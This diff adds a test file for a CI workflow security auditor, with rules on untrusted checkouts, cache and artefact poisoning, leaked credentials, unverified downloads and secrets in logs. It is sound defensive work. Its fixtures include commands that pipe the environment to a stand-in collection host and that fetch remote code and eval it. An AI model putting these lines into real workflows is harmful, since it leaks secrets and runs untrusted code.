@@ -1,0 +1,167 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { CI_RULES } from '../../../src/audit/rules/ci/index.ts';
+import { readFacts } from '../../../src/facts/index.ts';
+import type { FindingDraft } from '../../../src/findings/index.ts';
+import { loadReaders } from '../../../src/syntax/index.ts';
+import { memoryTree } from '../../support/memory-tree.ts';
+
+const readers = await loadReaders();
+
+const HEAD = `\${{ github.event.pull_request.head.sha }}`;
+
+function workflow(on: string, steps: string, job = ''): string {
+  return `on: ${on}\npermissions: {}\njobs:\n  work:\n    runs-on: ubuntu-24.04\n${job}    steps:\n${steps.replaceAll(/^(?=.)/gm, '      ')}\n`;
+}
+
+function check(rule: string, text: string): readonly FindingDraft[] {
+  const found = CI_RULES.find(({ id }) => id === rule);
+  const facts = readFacts(memoryTree({ '.github/workflows/work.yml': text }), readers);
+  return found === undefined ? [] : [...found.check(facts, { today: '2026-11-21' })];
+}
+
+function reported(rule: string, text: string): readonly string[] {
+  return check(rule, text).map(({ place, severity }) => `${severity} ${text.slice(place.span.start, place.span.end)}`);
+}
+
+describe('CI005 untrusted checkout', () => {
+  const build = (version: string, more = '') =>
+    workflow(
+      'pull_request_target',
+      `- uses: actions/checkout@${version}\n  with:\n    ref: ${HEAD}\n${more}- run: make`,
+    );
+  it('knows that version 7 of the checkout refuses forks', () => {
+    assert.equal(check('CI005', build('v6')).length, 1);
+    assert.equal(check('CI005', build('v7')).length, 0);
+    assert.equal(check('CI005', build('v7', '    allow-unsafe-pr-checkout: true\n')).length, 1);
+  });
+  it('is less sure of a ref that only an output names', () => {
+    const ref = (output: string) =>
+      workflow(
+        'issue_comment',
+        `- uses: actions/checkout@v4\n  with: { ref: "\${{ steps.a.outputs.${output} }}" }\n- run: make`,
+      );
+    assert.deepEqual(reported('CI005', ref('head_sha')), ['high make']);
+    assert.deepEqual(reported('CI005', ref('version')), []);
+  });
+  it('names every step that runs the tree', () => {
+    const text = workflow(
+      'pull_request_target',
+      `- uses: actions/checkout@v4\n  with: { ref: "${HEAD}" }\n- run: make\n- run: npm test`,
+    );
+    assert.deepEqual(
+      check('CI005', text).flatMap(({ related }) =>
+        (related ?? []).map(({ place }) => text.slice(place.span.start, place.span.end)),
+      ),
+      ['actions/checkout@v4', 'npm test'],
+    );
+  });
+});
+
+describe('CI007 cache poisoning', () => {
+  const cached = (on: string, ref: string) =>
+    workflow(on, `- uses: actions/checkout@v4\n${ref}- uses: actions/cache@v4\n  with: { path: a, key: b }`);
+  it('reports a cache of the default branch beside code of a pull request', () => {
+    assert.equal(check('CI007', cached('pull_request_target', `  with: { ref: "${HEAD}" }\n`))[0]?.severity, 'high');
+    assert.deepEqual(check('CI007', cached('pull_request_target', '')), []);
+    assert.deepEqual(check('CI007', cached('pull_request', `  with: { ref: "${HEAD}" }\n`)), []);
+  });
+});
+
+describe('CI008 artefact poisoning', () => {
+  const download = (path: string, run: string) =>
+    workflow(
+      '{ workflow_run: { workflows: [a], types: [completed] } }',
+      `- uses: dawidd6/action-download-artifact@v6\n  with: { path: "${path}" }\n- run: ${run}`,
+    );
+  it('is quiet where the files lie outside the work tree and nothing names them', () => {
+    assert.equal(check('CI008', download('.', 'bash ./report.sh'))[0]?.severity, 'high');
+    assert.equal(check('CI008', download('/tmp/result', 'bash ./report.sh'))[0]?.severity, 'low');
+    assert.equal(check('CI008', download('/tmp/result', 'bash /tmp/result/report.sh'))[0]?.severity, 'high');
+  });
+});
+
+describe('CI011 literal credentials', () => {
+  const given = (name: string, value: string) =>
+    workflow('push', '- run: make', `    env:\n      ${name}: "${value}"\n`);
+  it('reports a mixed value under the name of a credential', () => {
+    assert.deepEqual(reported('CI011', given('API_TOKEN', 'b7Qd93kfPz01Lm5Tx8Va')), ['medium "b7Qd93kfPz01Lm5Tx8Va"']);
+  });
+  for (const [name, value] of [
+    ['POSTGRES_PASSWORD', 'postgres'],
+    ['API_TOKEN', 'this-is-only-a-test-1234'],
+    ['BUILD_ID', 'b7Qd93kfPz01Lm5Tx8Va'],
+    ['API_TOKEN', `\${{ secrets.API_TOKEN }}`],
+  ] as const) {
+    it(`is silent on ${name}: ${value}`, () => {
+      assert.deepEqual(reported('CI011', given(name, value)), []);
+    });
+  }
+});
+
+describe('CI020 downloads', () => {
+  const fetched = (host: string, more: string) =>
+    workflow(
+      'push',
+      `- run: |\n    curl -fLo tool https://${host}/tool\n    curl -fLo tool.sha256 https://${host}/tool.sha256\n    ${more}\n    sha256sum --check tool.sha256\n    ./tool`,
+    );
+  it('does not take a sum from the same server for a check', () => {
+    assert.equal(check('CI020', fetched('get.example.test', 'true')).length, 1);
+    assert.equal(check('CI020', fetched('get.example.test', `echo ${'a'.repeat(64)}`)).length, 0);
+  });
+  it('reports what is fetched and evaluated', () => {
+    const text = workflow('push', '- run: |\n    CODE=$(curl https://get.example.test)\n    eval "$CODE"');
+    assert.deepEqual(reported('CI020', text), ['low "$CODE"']);
+  });
+});
+
+describe('CI022 secrets in the log', () => {
+  const script = (lines: string) =>
+    workflow('push', `- run: |\n${lines.replaceAll(/^/gm, '    ')}\n  env: { KEY: "\${{ secrets.KEY }}" }`);
+  it('reports a value that was made from a secret, and the secret itself', () => {
+    assert.deepEqual(reported('CI022', script('PART="${KEY:0:8}"\necho "$PART"')), ['low "$PART"']);
+    assert.deepEqual(reported('CI022', script('echo "$KEY"')), ['low "$KEY"']);
+    assert.deepEqual(reported('CI022', script('show() { echo "$1"; }\nshow "$KEY"')), ['low "$KEY"']);
+  });
+  for (const lines of [
+    'echo "$KEY" > key.txt',
+    'echo "$KEY" | sha256sum --check',
+    './deploy.sh "$KEY"',
+    'A=$(echo "$KEY")',
+  ]) {
+    it(`is silent on ${lines}`, () => {
+      assert.deepEqual(reported('CI022', script(lines)), []);
+    });
+  }
+});
+
+describe('CI026 tokens of applications', () => {
+  const made = (inputs: string) =>
+    workflow('push', `- uses: actions/create-github-app-token@v2\n  with: { app-id: "1", private-key: k, ${inputs} }`);
+  for (const [inputs, count] of [
+    ['permission-contents: read', 0],
+    ['owner: acme, permission-contents: read', 1],
+    ['owner: acme, repositories: app, permission-contents: read', 0],
+    ['owner: acme, permission-members: read', 0],
+    ['permission-contents: read, skip-token-revoke: true', 1],
+    ['repositories: app', 1],
+  ] as const) {
+    it(`counts ${count} for ${inputs}`, () => {
+      assert.equal(check('CI026', made(inputs)).length, count);
+    });
+  }
+});
+
+describe('CI032 the environment sent elsewhere', () => {
+  for (const [run, count] of [
+    ['env | curl -d @- https://collect.example.test', 1],
+    ['curl -d "$(printenv | base64)" https://collect.example.test', 1],
+    ['A=$(env)\n    curl -d "$A" https://collect.example.test', 1],
+    ['env | sort\n    curl https://get.example.test', 0],
+    ['env CI=1 curl https://get.example.test', 0],
+  ] as const) {
+    it(`counts ${count} for ${run}`, () => {
+      assert.equal(check('CI032', workflow('push', `- run: |\n    ${run}`)).length, count);
+    });
+  }
+});
